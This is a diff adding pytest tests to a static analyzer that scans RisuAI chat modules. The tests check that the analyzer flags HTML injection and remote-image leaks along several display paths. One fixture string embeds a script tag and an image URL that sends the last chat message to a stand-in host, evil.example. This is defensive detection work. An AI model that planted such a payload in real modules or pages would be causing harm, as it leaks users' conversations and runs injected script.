@@ -547,3 +547,62 @@ def test_a_carriage_return_ends_a_lua_line(tmp_path: Path, code: str, name: str)
     analysis = json.loads(done.stdout)["modules"][0]["analysis"]
     assert name in [a["name"] for a in analysis["privileged_apis"]], analysis
     assert "RA601" not in done.stdout
+
+
+# ---- what RisuAI shows, and what it calls, read as it does --------------------------------
+
+def _analysis(tmp_path: Path, module: dict[str, object]) -> dict[str, object]:
+    (tmp_path / "m.json").write_text(json.dumps({"type": "risuModule", "name": "m", "id": "m",
+                                                 **module}), "utf-8")
+    done = run_cli("analyze", tmp_path / "m.json", "-f", "json")
+    assert done.returncode in (0, 1), done.stderr
+    out: dict[str, object] = json.loads(done.stdout)["modules"][0]["analysis"]
+    return out
+
+
+def _rules(analysis: dict[str, object]) -> set[str]:
+    return {f["rule"] for f in analysis["findings"]}  # type: ignore[attr-defined]
+
+
+LEAK = '<img src="https://evil.example/?q={{lastmessage}}"><script>alert(1)</script>'
+
+
+def _trigger(effect: dict[str, object]) -> dict[str, object]:
+    return {"trigger": [{"comment": "", "type": "display", "conditions": [],
+                         "effect": [effect]}]}
+
+
+@pytest.mark.parametrize("module", [
+    # (v2SetDisplayState: its value is shown in the message's place, triggers.ts)
+    _trigger({"type": "v2SetDisplayState", "value": LEAK, "valueType": "value",
+              "indent": 0}),
+    # (/send, /sendas and /comment put their text in the chat, command.ts)
+    _trigger({"type": "command", "value": f"/sendas {LEAK}"}),
+    _trigger({"type": "command", "value": f"/send {LEAK}|/comment x"}),
+    _trigger({"type": "command", "value": f"/comment {LEAK}"}),
+])
+def test_html_every_display_path_shows_is_read(tmp_path: Path,
+                                               module: dict[str, object]) -> None:
+    assert {"RA301", "RA305"} <= _rules(_analysis(tmp_path, module))
+
+
+def test_an_editprocess_output_is_no_html(tmp_path: Path) -> None:
+    """An ``editprocess`` script rewrites the request sent to the model; no page shows its
+    output: its <script> and remote image were RA301 and RA305 (its CBS still runs)."""
+    a = _analysis(tmp_path, {"regex": [{"comment": "", "in": "x", "out": LEAK + "{{getvar::k}}",
+                                        "type": "editprocess", "flag": "g"}]})
+    assert not {"RA301", "RA302", "RA304", "RA305"} & _rules(a)
+    assert "k" in json.dumps(a["state"])
+
+
+def test_a_script_s_own_call_listen_main_hooks_every_edit(tmp_path: Path) -> None:
+    """RisuAI's wrapper defines ``callListenMain`` before a script's code and calls it by name
+    on every edit event: a script that defines it again is called there (it was
+    ``unreached``, its calls dropped)."""
+    code = "function callListenMain(mode, id, data) setChatVar(id, 'seen', data) end"
+    a = _analysis(tmp_path, {"trigger": [{"comment": "", "type": "start", "conditions": [],
+                                          "effect": [{"type": "triggerlua", "code": code}]}]})
+    hooks = [h["name"] for h in a["hooks"]]  # type: ignore[attr-defined]
+    assert {"hook.edit_request", "hook.edit_display", "hook.edit_input",
+            "hook.edit_output"} <= set(hooks), hooks
+    assert [e["name"] for e in a["entry_points"]] == ["callListenMain"]  # type: ignore[attr-defined]
